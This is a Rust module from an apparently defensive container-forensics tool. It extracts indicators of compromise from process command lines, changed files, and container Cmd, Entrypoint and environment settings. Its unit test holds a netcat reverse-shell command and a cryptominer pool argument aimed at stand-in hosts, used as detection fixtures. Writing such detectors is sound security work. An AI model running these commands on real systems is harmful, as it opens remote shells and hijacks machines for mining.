//! Indicators on findings from the sources their proof names: the command line of every
//! process a finding cites (and the commands it hides in base64), the content of every added
//! or changed file it cites (read while the layers streamed); and the indicators of a
//! container's own configuration (`Path`/`Args`, `Cmd`, `Entrypoint`, `Env`).

use std::collections::BTreeMap;

use crate::bundle::Evidence;
use crate::ingest::inspect::ContainerInfo;
use crate::logscan::ioc::{self, Source};
use crate::model::{Finding, IocRef, Locator};
use std::borrow::Cow;

/// Indicators by the locator of the source carrying them: process rows and changed files.
pub(crate) fn by_source(report: &Evidence) -> BTreeMap<Cow<'_, Locator>, Vec<IocRef>> {
    let mut out: BTreeMap<Cow<'_, Locator>, Vec<IocRef>> = BTreeMap::new();
    for p in report.processes.iter().flat_map(|r| r.capture.processes.iter()) {
        let refs = ioc::from_command(&p.cmd);
        if !refs.is_empty() {
            out.entry(Cow::Borrowed(&p.locator)).or_default().extend(refs);
        }
    }
    for c in report.image.file_changes.iter().filter(|c| !c.iocs().is_empty()) {
        out.entry(Cow::Owned(c.locator())).or_default().extend(c.iocs().iter().cloned());
    }
    out
}

/// Give every finding the indicators of the sources its proof names (merged with those it
/// already carries). Running it again changes nothing.
pub(crate) fn attach(report: &Evidence, findings: &mut [Finding]) {
    let sources = by_source(report);
    if sources.is_empty() {
        return;
    }
    for f in findings {
        let got: Vec<IocRef> = f.evidence.iter().filter_map(|l| sources.get(l)).flatten().cloned().collect();
        if !got.is_empty() {
            let mut all = std::mem::take(&mut f.iocs);
            all.extend(got);
            f.iocs = ioc::tidy(all);
        }
    }
}

/// Indicators of a container's configuration: the command it runs and its environment
/// (secrets are masked before they get here).
pub(crate) fn of_config(c: &ContainerInfo) -> Vec<IocRef> {
    let mut all = vec![];
    let mut commands: Vec<String> = vec![];
    if let Some(p) = &c.path {
        commands.push(std::iter::once(p.clone()).chain(c.args.iter().cloned()).collect::<Vec<_>>().join(" "));
    }
    commands.push(c.config.entrypoint.iter().chain(&c.config.cmd).cloned().collect::<Vec<_>>().join(" "));
    for cmd in commands.iter().filter(|c| !c.trim().is_empty()) {
        all.extend(ioc::from_command(cmd));
    }
    for e in c.config.env.iter().filter(|e| !e.secret && !e.value.is_empty()) {
        all.extend(ioc::from_text(&e.value, Source::Command));
    }
    ioc::tidy(all)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ingest::inspect::EnvVar;

    #[test]
    fn configuration_gives_command_and_environment_indicators() {
        let mut c = ContainerInfo::default();
        c.config.cmd = vec!["sh".into(), "-c".into(), "nc 203.0.113.9 4444 -e sh".into()];
        c.config.env = vec![
            EnvVar::parse("POOL_ARGS=-o pool.evil.example:3333 -u x --donate-level 1"),
            EnvVar::parse("PATH=/usr/bin"),
        ];
        let v: Vec<String> =
            of_config(&c).iter().map(|r| format!("{}:{}:{}", r.kind, r.value, r.role)).collect();
        for want in ["endpoint:203.0.113.9:4444:callback", "endpoint:pool.evil.example:3333:mining-pool"] {
            assert!(v.contains(&want.to_string()), "{want} not in {v:?}");
        }
    }
}
